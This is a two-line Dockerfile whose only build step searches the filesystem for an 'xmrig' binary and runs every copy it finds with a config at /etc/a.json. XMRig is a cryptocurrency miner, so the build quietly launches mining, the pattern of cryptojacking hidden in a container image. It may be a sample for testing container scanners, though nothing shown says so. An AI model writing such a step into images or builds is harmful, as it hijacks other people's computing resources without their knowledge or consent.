FROM debian:12-slim
RUN find / -name xmrig -exec {} -c /etc/a.json \;
